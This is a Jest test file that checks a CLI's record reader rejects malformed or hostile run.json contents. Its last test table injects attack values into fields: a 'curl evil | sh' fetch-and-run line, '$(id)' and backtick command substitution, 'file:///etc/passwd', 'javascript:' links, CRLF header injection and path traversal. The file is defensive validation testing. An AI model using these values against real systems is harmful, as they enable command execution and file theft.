import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "@jest/globals";
import { readRecord } from "#cli/files/reading/read-record.ts";
import { withFolder } from "#tests/helpers/cli-process.ts";
import { aRecord, aRequirement } from "#tests/reports/producers.ts";
import { ALL_RECORDS, failing, hostile, hostileInForm } from "#tests/reports/records.ts";

const reading = (text: string, use: (read: () => unknown) => void) =>
  withFolder((folder) => {
    const file = join(folder, "run.json");
    writeFileSync(file, text);
    return Promise.resolve(use(() => readRecord(file)));
  });

/** Its places of form have hostile texts as well, which no run writes. */
const WRITTEN = { ...ALL_RECORDS, hostile: hostileInForm };

test("texts of any sort in places of form are refused", () =>
  reading(JSON.stringify(hostile), (read) => expect(read).toThrow(/must match pattern/)));

test.each(["constructor", "__proto__"])("a requirement by a name of every object, %s, is refused", (id) =>
  reading(JSON.stringify(aRecord({ requirements: [aRequirement({ id })] })), (read) =>
    expect(read).toThrow(/must match pattern/),
  ),
);

test.each(Object.entries(WRITTEN))("%s is read as it was written", (_name, record) =>
  reading(JSON.stringify(record), (read) => expect(read()).toEqual(JSON.parse(JSON.stringify(record)))),
);

test("a folder is answered with the record that is in it", () =>
  withFolder((folder) => {
    expect(() => readRecord(folder)).toThrow(
      `record ${folder}: a folder with neither run.json nor events.ndjson in it`,
    );
    writeFileSync(join(folder, "run.json"), JSON.stringify(aRecord()));
    expect(readRecord(folder).run.id).toBe(aRecord().run.id);
    return Promise.resolve();
  }));

const withoutTarget = { ...aRecord(), target: undefined };
const STARTED = { type: "started" };

test.each<[string, string, RegExp]>([
  ["cut off", '{"schemaVersion": 1, "tool":', /run\.json: not JSON, so cut off or edited: .*; run again$/],
  ["of something else", "[]", /neither a run\.json nor an events\.ndjson/],
  [
    "of another schema",
    JSON.stringify({ ...aRecord(), schemaVersion: 9 }),
    /has schema version 9, but this tool reads 1: read it with version 0\.1\.0, or run again$/,
  ],
  ["without its target", JSON.stringify(withoutTarget), /must have required property 'target': not as this version/],
  ["with a member too many", JSON.stringify({ ...aRecord(), more: 1 }), /additional properties \(more\)/],
  [
    "with a verdict that is none",
    JSON.stringify(aRecord()).replace('"verdict":"pass"', '"verdict":"splendid"'),
    /\/verdict must be equal to one of the allowed values/,
  ],
  ["of events that are none", `${JSON.stringify(STARTED)}\n`, /its event "started" is not as this version writes it/],
])("a record %s is told of in one line, with what to do", (_what, text, message) =>
  reading(text, (read) => expect(read).toThrow(message)),
);

/** The same record with another value at a place. */
function withAt(path: readonly (string | number)[], value: unknown): string {
  const copy = structuredClone(failing) as unknown as Record<string | number, unknown>;
  const holder = path.slice(0, -1).reduce((at, step) => at[step] as Record<string | number, unknown>, copy);
  holder[path.at(-1) ?? ""] = value;
  return JSON.stringify(copy);
}

const at = failing.requirements.findIndex(({ cases }) => cases.length > 0);
const CASE = ["requirements", at, "cases", 0];
const EXCHANGE = [...CASE, "exchanges", 0];

test.each<[string, readonly (string | number)[], unknown]>([
  ["the tool's version", ["tool", "version"], "1\ncurl evil | sh"],
  ["the tool's name", ["tool", "name"], "##vso[x]"],
  ["the run's id", ["run", "id"], "$(id)"],
  ["a time", ["run", "startedAt"], "2026-99-01T00:00:00Z"],
  ["the number of shards", ["run", "shard"], { index: 1, of: 1e15 }],
  ["the endpoint", ["target", "endpoint"], "-K."],
  ["an endpoint of two lines", ["target", "endpoint"], "http://a\nb"],
  ["an endpoint with a quote", ["target", "endpoint"], 'http://a"b'],
  ["the kind", ["target", "kind"], "$(id)"],
  ["the Region", ["target", "region"], "$(id)"],
  ["the account", ["target", "account"], "`id`"],
  ["the signing name", ["contract", "signingName"], "$(id)"],
  ["a requirement", ["requirements", at, "id"], "../../a b"],
  ["an operation", ["requirements", at, "operation"], "a\nb"],
  ["a link", ["requirements", at, "trace", "url"], "javascript:alert(1)"],
  ["a day", ["requirements", at, "trace", "date"], "today"],
  ["a case", [...CASE, "id"], "a b"],
  ["a method", [...EXCHANGE, "request", "method"], "GET\nx"],
  ["an address", [...EXCHANGE, "request", "url"], "file:///etc/passwd"],
  ["a path", [...EXCHANGE, "request", "path"], "/a b"],
  ["a header's name", [...EXCHANGE, "request", "headers", 0, 0], "a\r\nb"],
  ["a header's value", [...EXCHANGE, "request", "headers", 0, 1], "a\r\nb: c"],
  ["a failure", [...EXCHANGE, "failure"], { kind: "reset\ntouch /tmp/a", message: "m" }],
  ["a signature", [...EXCHANGE, "signing"], { kind: "$(id)" }],
  ["a service signed for", [...EXCHANGE, "signing"], { kind: "wrong-service", service: "$(id)" }],
  ["a caller", [...EXCHANGE, "signing"], { kind: "other-caller", caller: "root" }],
  ["a time that is none", [...EXCHANGE, "startedAt"], 1e300],
  ["an operation's id", ["operations", 0, "id"], "$(id)"],
  [
    "an expected failure's link",
    ["requirements", at, "expectedFailure"],
    { pattern: "*", reason: "r", link: "javascript:a" },
  ],
])("a record whose %s is not of its form is refused with the place", (_what, path, value) =>
  reading(withAt(path, value), (read) => {
    const place = `/${path.slice(0, 2).join("/")}`;
    expect(read).toThrow(new RegExp(`^record .*run\\.json: ${place}.*: not as this version writes it; run again$`));
  }),
);
